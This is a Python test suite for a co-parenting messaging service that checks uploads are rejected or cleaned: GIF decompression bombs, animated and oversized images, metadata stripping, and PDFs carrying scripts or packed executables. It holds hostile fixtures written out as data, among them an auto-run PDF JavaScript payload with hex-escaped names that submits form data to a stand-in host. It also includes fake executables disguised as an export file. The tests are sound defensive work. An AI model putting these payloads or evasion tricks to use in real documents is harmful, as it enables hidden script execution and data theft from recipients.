"""Issue #8: nothing a parent sends can stop the service. A few hundred bytes can describe an
enormous animation; a PDF can carry scripts. Each is refused from what its headers and
dictionaries say, before anything is decoded, and no file work happens inside the transaction
that holds the database's write lock."""

from __future__ import annotations

import hashlib
import io
import threading
import uuid
from pathlib import Path

import pytest
from django.core.exceptions import ValidationError
from django.db import connection
from django.urls import reverse
from PIL import Image

from coparent.messaging import attachments
from coparent.messaging.attachments import IncomingFile
from coparent.messaging.models import Attachment, Message
from tests.api.conftest import API, family_path
from tests.families.helpers import client_for
from tests.messaging import images
from tests.messaging.conftest import PDF_BYTES, png_bytes, start


def _upload(caller, path, fields, files):
    data = {**fields, "files": [io.BytesIO(content) for _name, content in files]}
    for part, (name, _content) in zip(data["files"], files, strict=True):
        part.name = name
    return caller.client.post(
        API + path, data, headers={"Authorization": f"Bearer {caller.token}"}, secure=True
    )


def _nothing_stored(settings):
    folder = Path(settings.MEDIA_ROOT) / "attachments"
    return not Attachment.objects.exists() and (not folder.exists() or not any(folder.iterdir()))


def test_the_animated_gif_bomb_is_refused_from_its_headers_without_being_decoded(
    cast, as_, settings, monkeypatch
):
    """Sam sends issue #8's GIF: 223 bytes, eight 6000×6000 frames. Before the fix every frame
    was decoded and encoded again (12 s, 2 GB) inside the write transaction."""
    thread = start(cast).thread
    monkeypatch.setattr(attachments, "_redraw", _must_not_decode, raising=False)

    refused = _upload(
        as_(cast.sam),
        f"{family_path(cast, f'/threads/{thread.pk}/messages/upload')}",
        {"body": "Look at this!"},
        [("funny.gif", images.gif_bomb())],
    )

    assert refused.status_code == 422, refused.content
    (problem,) = refused.json()["errors"]["files"]
    assert "“funny.gif” is an animated image; only still photos can be attached" in problem
    assert Message.objects.filter(thread=thread).count() == 1
    assert _nothing_stored(settings)


def _must_not_decode(image, content_type):
    raise AssertionError("the image was decoded")


@pytest.mark.parametrize("fmt", ["GIF", "PNG", "WEBP"])
def test_every_kind_of_animation_is_refused_with_a_clear_message(cast, settings, fmt):
    with pytest.raises(ValidationError) as error:
        start(cast, attachments=[IncomingFile(f"dance.{fmt.lower()}", images.animated(fmt))])
    assert (
        "is an animated image; only still photos can be attached. Send a still image"
        in (error.value.message_dict["attachments"][0])
    )
    assert _nothing_stored(settings)


# Pillow warns as it opens it (its own limit is ours); then it is refused.
@pytest.mark.filterwarnings("ignore::PIL.Image.DecompressionBombWarning")
def test_a_still_image_over_the_pixel_limit_is_refused_before_decoding(cast, settings, monkeypatch):
    monkeypatch.setattr(attachments, "_redraw", _must_not_decode)
    with pytest.raises(ValidationError) as error:
        start(cast, attachments=[IncomingFile("scan.png", images.huge_png(10_000, 8_000))])
    assert error.value.message_dict["attachments"] == [
        "“scan.png” is 10,000 × 8,000 pixels; a photo can have at most 50 megapixels. "
        "Send a smaller copy."
    ]
    assert _nothing_stored(settings)


def test_an_image_far_over_the_limit_is_refused_as_pillow_opens_it(cast, settings, monkeypatch):
    """Over twice the limit Pillow's own guard refuses it as it reads the header; the parent
    reads the same kind of message."""
    monkeypatch.setattr(attachments, "_redraw", _must_not_decode)
    with pytest.raises(ValidationError) as error:
        start(cast, attachments=[IncomingFile("poster.png", images.huge_png(15_000, 10_000))])
    assert error.value.message_dict["attachments"] == [
        "“poster.png” has far more than 50 megapixels; a photo can have at most 50 megapixels. "
        "Send a smaller copy."
    ]
    assert _nothing_stored(settings)


def test_the_pixel_limit_comes_from_the_settings(cast, settings):
    settings.COPARENT_IMAGE_MAX_PIXELS = 40 * 30 - 1
    with pytest.raises(ValidationError) as error:
        start(cast, attachments=[IncomingFile("tiny.png", images.animated("PNG", frames=1))])
    assert "at most 0.001199 megapixels" in error.value.message_dict["attachments"][0]


def test_pillow_refuses_bombs_anywhere_in_the_process_at_the_same_limit():
    assert Image.MAX_IMAGE_PIXELS == attachments.max_pixels() == attachments.MAX_PIXELS


def test_a_phone_photo_with_a_second_picture_inside_keeps_the_photo(cast):
    """Phones write an HDR gain map or a depth map beside the photo (MPO). That is not an
    animation: the photo is kept, the hidden picture dropped."""
    message = start(cast, attachments=[IncomingFile("IMG_3001.jpg", images.mpo_jpeg())])
    stored = attachments.path_of(message.attachments.get().stored_name).read_bytes()
    image = Image.open(io.BytesIO(stored))
    assert (image.format, image.size, getattr(image, "n_frames", 1)) == ("JPEG", (48, 32), 1)


def test_a_photo_taken_sideways_stands_up(cast):
    message = start(cast, attachments=[IncomingFile("side.jpg", images.turned_jpeg())])
    stored = attachments.path_of(message.attachments.get().stored_name).read_bytes()
    assert Image.open(io.BytesIO(stored)).size == (20, 60)


@pytest.mark.parametrize("fmt", ["JPEG", "PNG", "WEBP", "GIF"])
def test_no_metadata_survives_in_any_format(cast, fmt):
    """The photo is written from its pixels without a second copy of them; whatever the
    format, EXIF and GPS, XMP, ICC profiles, comments and text chunks stay behind."""
    original = images.with_everything(fmt)
    assert b"SECRET" in original
    message = start(cast, attachments=[IncomingFile(f"x.{fmt.lower()}", original)])
    stored = attachments.path_of(message.attachments.get().stored_name).read_bytes()
    assert b"SECRET" not in stored
    assert b"PhoneMaker" not in stored
    image = Image.open(io.BytesIO(stored))
    assert not image.getexif()
    assert image.size == (32, 24)


def test_decoding_waits_for_room_in_the_process_pixel_budget(settings):
    """Two photos that together exceed the budget are not decoded at the same time: the
    second waits until the first is done, so a process never holds more than the budget."""
    settings.COPARENT_IMAGE_MAX_PIXELS = 100
    budget = attachments._PixelBudget()
    first_holding, first_may_finish, second_in = (threading.Event() for _ in range(3))

    def first():
        with budget.hold(60):
            first_holding.set()
            first_may_finish.wait(5)

    def second():
        first_holding.wait(5)
        with budget.hold(60):
            second_in.set()

    threads = [threading.Thread(target=first), threading.Thread(target=second)]
    for thread in threads:
        thread.start()
    assert first_holding.wait(5)
    assert not second_in.wait(0.3)  # 60 + 60 > 100: it waits
    first_may_finish.set()
    assert second_in.wait(5)
    for thread in threads:
        thread.join(5)
    with budget.hold(100), budget.hold(0):
        pass  # a photo at the limit fits on its own


# --- No file work inside the write transaction -------------------------------------------------


@pytest.fixture
def watched(monkeypatch):
    """Record, for each piece of file work, how many transactions were open around it. The
    test itself runs inside pytest-django's own; the caller compares with that."""
    seen: list[tuple[str, int]] = []

    def watch(module, name):
        real = getattr(module, name)

        def spy(*args, **kwargs):
            seen.append((name, len(connection.atomic_blocks)))
            return real(*args, **kwargs)

        monkeypatch.setattr(module, name, spy)

    watch(attachments, "prepare")  # type by content, photos decoded, PDFs read
    watch(attachments, "store")
    return seen


def test_the_api_decodes_and_stores_files_before_the_transaction_opens(cast, as_, watched):
    thread = start(cast).thread
    watched.clear()
    outside = len(connection.atomic_blocks)  # the test's own transaction, and no other
    sent = _upload(
        as_(cast.sam),
        family_path(cast, f"/threads/{thread.pk}/messages/upload"),
        {"body": "Receipt and drawing"},
        [("receipt.pdf", PDF_BYTES), ("drawing.png", png_bytes())],
    )
    assert sent.status_code == 201, sent.content
    assert watched == [("prepare", outside)] * 2 + [("store", outside)] * 2


def test_the_pages_decode_and_store_files_before_the_transaction_opens(cast, watched):
    thread = start(cast).thread
    watched.clear()
    outside = len(connection.atomic_blocks)
    answer = client_for(cast.sam).post(
        reverse("messaging:reply", kwargs={"family_id": cast.family.pk, "thread_id": thread.pk}),
        {"body": "The drawing", "attachments": [_named("drawing.png", png_bytes())]},
    )
    assert answer.status_code == 302
    assert watched == [("prepare", outside), ("store", outside)]


def _named(name, content):
    part = io.BytesIO(content)
    part.name = name
    return part


# --- PDFs that carry scripts -------------------------------------------------------------------


def test_a_pdf_that_runs_a_script_when_opened_is_refused(cast, as_, settings):
    """Alex is sent a "school form" that would run JavaScript in Sam's PDF reader as it opens,
    its names hex-escaped and packed in a compressed object stream to slip past a plain search."""
    form = images.pdf(
        b"<</Type/Catalog/OpenAction 10 0 R>>",
        images.object_stream(b"<</S/J#61vaScript/JS(this.submitForm('https://x.example'))>>"),
    )
    thread = start(cast).thread

    refused = _upload(
        as_(cast.sam),
        family_path(cast, f"/threads/{thread.pk}/messages/upload"),
        {"body": "The school form"},
        [("form.pdf", form)],
    )

    assert refused.status_code == 422, refused.content
    assert refused.json()["errors"]["files"] == [
        "“form.pdf” contains JavaScript, an action that runs when the document opens, which "
        "can run when it is opened, so it cannot be attached. Print it to a new PDF (Print, "
        "then Save as PDF) and attach that."
    ]
    assert Message.objects.filter(thread=thread).count() == 1
    assert _nothing_stored(settings)


def test_a_pdf_that_cannot_be_read_to_be_sure_is_refused(cast, settings):
    packed = images.object_stream(b"<<>>", filters=b"/LZWDecode")
    with pytest.raises(ValidationError) as error:
        start(cast, attachments=[IncomingFile("old.pdf", images.pdf(b"<<>>", packed))])
    assert error.value.message_dict["attachments"] == [
        "“old.pdf” could not be checked for scripts (part of it is packed with LZWDecode, which "
        "is not checked), so it cannot be attached. Print it to a new PDF (Print, then Save as "
        "PDF) and attach that."
    ]
    assert _nothing_stored(settings)


def test_a_coparent_record_pdf_can_be_attached(cast):
    """A parent forwards the record export's PDF (WeasyPrint, packed object streams), whose
    one packed file is its JSON twin: the record's own proof, which nothing runs."""
    from coparent.records.export import build_export, render_pdf

    document = render_pdf(build_export(family=cast.family), family=cast.family)
    message = start(cast, attachments=[IncomingFile("record.pdf", document)])
    assert message.attachments.get().sha256 == hashlib.sha256(document).hexdigest()


def _with_packed_files(*files: tuple[str, bytes]) -> bytes:
    from pypdf import PdfWriter

    writer = PdfWriter()
    writer.add_blank_page(width=200, height=200)
    for name, data in files:
        writer.add_attachment(name, data)
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


TWIN = f"coparent-record-{uuid.uuid4()}-7.json"


@pytest.mark.parametrize(
    "packed",
    [
        # A program dressed up as the record's twin.
        [(TWIN, b"MZ\x90\x00 a program")],
        # JSON, but not a record export.
        [(TWIN, b'{"format": "something-else"}')],
        # The twin and a second file beside it.
        [(TWIN, b'{"format": "coparent-record/1"}'), ("run.exe", b"MZ\x90\x00")],
        # Any other packed file.
        [("invoice.json", b'{"format": "coparent-record/1"}')],
    ],
)
def test_a_pdf_with_any_other_packed_file_is_still_refused(cast, settings, packed):
    with pytest.raises(ValidationError, match="files packed inside"):
        start(cast, attachments=[IncomingFile("record.pdf", _with_packed_files(*packed))])
    assert _nothing_stored(settings)
